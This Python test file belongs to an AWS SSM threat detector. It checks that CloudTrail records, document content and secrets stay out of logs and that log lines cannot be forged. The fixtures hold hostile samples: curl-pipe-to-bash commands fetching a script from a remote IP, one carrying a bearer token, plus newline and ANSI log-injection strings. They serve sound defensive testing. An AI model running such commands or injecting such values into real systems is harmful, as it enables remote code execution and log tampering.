"""What reaches the logs: not the CloudTrail record, not document content, nothing forged.

CloudWatch Logs keeps what the function prints for a year (template.yaml), readable by more
people than the findings are. So: the record is never logged at INFO (only findings, built from
the fields a responder needs, and bad-event reasons that never quote input); document content
never; and a value an attacker controls (event id, user agent, comment, principal name,
document name) cannot forge a log line, because every record is one JSON object on one line.

The Powertools logger's stream is captured as tests/test_handler.py does it.
"""

from __future__ import annotations

import io
import json
import logging
import re
from collections.abc import Iterator
from typing import Any

import pytest

from ssm_detect import cli
from tests.conftest import EVENTS, ROOT, Invoke, load_event

CANARY = "CANARY-0f9e8d7c"
FORGED = '"}\n{"level":"ERROR","message":"forged","location":"x"}\r\n\x1b[31mforged\x1b[0m'
EVENT_FILES = sorted(p.name for p in EVENTS.glob("*.json"))


class _Count(logging.Handler):
    def __init__(self) -> None:
        super().__init__()
        self.records = 0

    def emit(self, record: logging.LogRecord) -> None:
        del record
        self.records += 1


class Logs:
    def __init__(self) -> None:
        self.stream = io.StringIO()
        self.counter = _Count()

    @property
    def text(self) -> str:
        return self.stream.getvalue()

    def lines(self) -> list[dict[str, Any]]:
        """Each line of the stream as JSON: a line that is not a JSON object fails the test."""
        parsed = [json.loads(line) for line in self.text.split("\n") if line]
        assert all(isinstance(entry, dict) for entry in parsed)
        return parsed


@pytest.fixture
def logs(invoke: Invoke) -> Iterator[Logs]:
    """Everything the handler's Powertools logger writes during the test."""
    from handler import app  # noqa: PLC0415

    del invoke
    handler = app.logger.registered_handler
    assert isinstance(handler, logging.StreamHandler)
    captured = Logs()
    previous = handler.setStream(captured.stream)
    app.logger.addHandler(captured.counter)
    try:
        yield captured
    finally:
        app.logger.removeHandler(captured.counter)
        handler.setStream(previous)


def _strings(node: object) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from _strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from _strings(value)


# --- the record is not logged at INFO ------------------------------------------------------------

# Record fields no finding uses: if one of their values is in the logs, the record was logged.
_RECORD_ONLY = ("requestID", "sharedEventID", "tlsDetails", "eventVersion", "requestedDateTime")


def _record_only_values(record: dict[str, Any]) -> set[str]:
    found: set[str] = set()
    for name in _RECORD_ONLY:
        found |= {s for s in _strings(record.get(name)) if len(s) >= 8}
    command = (record.get("responseElements") or {}).get("command") or {}
    found |= {s for s in _strings(command.get("requestedDateTime")) if len(s) >= 8}
    return found


def test_hostile_logs_the_template_does_not_log_events_and_defaults_to_info() -> None:
    template = (ROOT / "template.yaml").read_text()
    assert "POWERTOOLS_LOGGER_LOG_EVENT" not in template
    assert re.search(r"LogLevel:\s*\n\s*Type: String\s*\n\s*Default: INFO", template)


def test_hostile_logs_never_hold_the_cloudtrail_record(invoke: Invoke, logs: Logs) -> None:
    """Every event file through the handler (one state, in order): no value only the record
    holds reaches the logs, nor the record itself, and nothing is logged below INFO."""
    for name in EVENT_FILES:
        payload = load_event(name)
        logs.stream.seek(0)
        logs.stream.truncate()
        invoke(payload)
        record = payload.get("detail") if isinstance(payload.get("detail"), dict) else payload
        for value in _record_only_values(record):
            assert value not in logs.text, (name, value)
        assert json.dumps(record) not in logs.text
        assert all(entry.get("level") != "DEBUG" for entry in logs.lines())


# --- document content is never logged ------------------------------------------------------------


def _create_document(content: object, name: str = "Ops-Canary") -> dict[str, Any]:
    payload = load_event("create_document_command_new_principal.json")
    payload["detail"]["requestParameters"]["content"] = content
    payload["detail"]["requestParameters"]["name"] = name
    return payload


@pytest.mark.parametrize(
    "content",
    [
        json.dumps(
            {
                "schemaVersion": "2.2",
                "mainSteps": [
                    {"inputs": {"runCommand": [f"echo {CANARY}", "systemctl restart workers"]}}
                ],
            }
        ),
        f"schemaVersion: '2.2'\nmainSteps:\n  - inputs:\n      runCommand:\n"
        f"        - echo {CANARY}\n",
        {"schemaVersion": "2.2", "parameters": {"token": {"default": CANARY}}},
        f"not a document at all {CANARY}",
        # malicious content (the finding lists its matched lines), the canary on another line
        json.dumps(
            {
                "schemaVersion": "2.2",
                "mainSteps": [
                    {
                        "inputs": {
                            "runCommand": [
                                f"export TOKEN={CANARY}",
                                "curl -s http://203.0.113.9/x.sh | bash",
                            ]
                        }
                    }
                ],
            }
        ),
    ],
    ids=["json", "yaml", "object", "text", "malicious"],
)
def test_hostile_logs_never_hold_document_content(
    content: object, invoke: Invoke, logs: Logs
) -> None:
    result = invoke(_create_document(content))
    assert result["findings"]  # the rare-creator finding was logged, without the content
    findings = [e["finding"] for e in logs.lines() if e.get("message") == "finding"]
    assert findings
    if "curl" in str(content):  # the evidence raised the severity; its lines stay out of logs
        assert findings[0]["severity"] in {"HIGH", "CRITICAL"}
        assert "content_findings" not in findings[0]["context"]
    assert CANARY not in logs.text


def test_hostile_logs_never_hold_a_secret_on_a_matched_content_line(
    invoke: Invoke, logs: Logs
) -> None:
    line = f'curl -H "Authorization: Bearer {CANARY}" http://203.0.113.9/x.sh | bash'
    content = json.dumps(
        {"schemaVersion": "2.2", "mainSteps": [{"inputs": {"runCommand": [line]}}]}
    )
    assert invoke(_create_document(content))["findings"]
    assert CANARY not in logs.text


def test_hostile_logs_bad_event_reasons_do_not_quote_the_input(invoke: Invoke, logs: Logs) -> None:
    """Every field of a real record in turn made invalid with the canary inside: each bad
    event is logged with a reason, and the reason never quotes the value."""
    template = load_event("send_command_success.json")
    bad = 0
    for field in sorted(template["detail"]):
        for wrong in (CANARY, [CANARY], {"x": CANARY}, 10**40):
            payload = load_event("send_command_success.json")
            payload["detail"][field] = wrong
            payload["detail"]["eventID"] = f"bad-{field}"
            logs.stream.seek(0)
            logs.stream.truncate()
            if invoke(payload)["bad_events"]:
                bad += 1
                warnings = [e for e in logs.lines() if e.get("message") == "skipped bad event"]
                assert len(warnings) == 1
                assert warnings[0]["reason"]
                assert CANARY not in logs.text, (field, wrong, logs.text)
    assert bad >= 10  # eventTime, eventName, userIdentity, requestParameters, ...


# --- log injection ----------------------------------------------------------------------------


def _hostile_send_command() -> dict[str, Any]:
    payload = load_event("send_command_success.json")
    detail = payload["detail"]
    detail["eventID"] = f"id{FORGED}"[:64]  # the longest event id the model accepts
    detail["userAgent"] = f"aws-cli/2 {FORGED}"
    detail["sourceIPAddress"] = f"198.51.100.7{FORGED}"
    detail["requestParameters"]["comment"] = f"rotate{FORGED}"
    detail["requestParameters"]["documentName"] = f"Doc{FORGED}"
    detail["userIdentity"]["arn"] = f"arn:aws:sts::111122223333:assumed-role/PlatformOps/x{FORGED}"
    return payload


@pytest.mark.parametrize("kind", ["finding", "bad-event", "batch"])
def test_hostile_logs_one_record_one_line_whatever_the_input(
    kind: str, invoke: Invoke, logs: Logs
) -> None:
    """Newlines, carriage returns, ANSI escapes and a ready-made JSON log line in every field
    an attacker controls: each log record is still exactly one line of one JSON object, and no
    line claims to be the forged one."""
    payload: object = _hostile_send_command()
    if kind == "bad-event":
        payload["detail"]["eventTime"] = f"yesterday{FORGED}"  # type: ignore[index]
    elif kind == "batch":
        payload = {"Records": [payload["detail"], {"eventID": FORGED}, FORGED]}  # type: ignore[index]
    invoke(payload)
    lines = logs.lines()
    assert len(lines) == logs.counter.records > 0
    assert all(entry.get("message") != "forged" for entry in lines)
    assert not re.search(r"[\x00-\x09\x0b-\x1f]", logs.text)  # JSON escapes every control char


def test_hostile_logs_replay_output_lines_cannot_be_forged(
    tmp_path: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    """`ssm-detect replay --output jsonl`: one JSON object per stdout line, and the problems
    listed on stderr stay one printable line each, with hostile event ids and bad lines."""
    good = _hostile_send_command()["detail"]
    bad = dict(good, eventTime=f"never{FORGED}", eventID=f"bad{FORGED}"[:200])
    (tmp_path / "hostile.jsonl").write_text(
        "\n".join([json.dumps(good), json.dumps(bad), f"not json {FORGED}".replace("\n", " ")])
    )
    cli.main(["replay", "--output", "jsonl", str(tmp_path)])
    out, err = capsys.readouterr()
    findings = [json.loads(line) for line in out.split("\n") if line]
    assert findings
    assert all(isinstance(finding, dict) for finding in findings)
    assert all(line.isprintable() for line in err.split("\n"))
    assert "forged" not in [f.get("message") for f in findings]
